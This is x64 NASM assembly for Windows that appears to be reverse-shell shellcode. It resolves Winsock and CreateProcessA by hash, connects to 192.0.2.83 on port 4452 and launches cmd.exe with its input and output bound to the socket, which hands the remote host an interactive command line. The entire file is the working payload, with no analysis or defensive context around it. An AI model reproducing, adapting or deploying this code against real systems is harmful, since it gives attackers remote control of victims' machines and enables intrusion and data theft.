; Windows, 64 bit: connects to 192.0.2.83 port 4452 and gives it a command line.
bits 64
%include "windows64_calls.inc"
HASH64 startup, 'WSAStartup'
HASH64 socket_of, 'WSASocketA'
HASH64 connect_to, 'connect'
HASH64 create, 'CreateProcessA'
	RESOLVER64
	lea rcx, [rel library]
	CALL64 rbx, load_library
	mov r12, rax
	mov ecx, 0x202
	lea rdx, [rsp + 0x40]
	CALL64 r12, startup
	mov ecx, 2
	mov edx, 1
	xor r8d, r8d
	xor r9d, r9d
	mov [rsp + 0x20], r8
	mov [rsp + 0x28], r8
	CALL64 r12, socket_of
	mov r13, rax
	mov rax, 0x530200c064110002
	push rax
	mov rdx, rsp
	mov rcx, r13
	mov r8d, 16
	sub rsp, 0x28
	CALL64 r12, connect_to
	add rsp, 0x30
	xor eax, eax
	lea rdi, [rsp + 0x60]
	mov ecx, 13
	rep stosq
	mov dword [rsp + 0x60], 0x68
	mov dword [rsp + 0x60 + 0x3c], 0x100
	mov [rsp + 0x60 + 0x50], r13
	mov [rsp + 0x60 + 0x58], r13
	mov [rsp + 0x60 + 0x60], r13
	xor ecx, ecx
	lea rdx, [rel command]
	xor r8d, r8d
	xor r9d, r9d
	CALL64 rbx, create
	int3
library: db 'ws2_32', 0
command: db 'cmd', 0
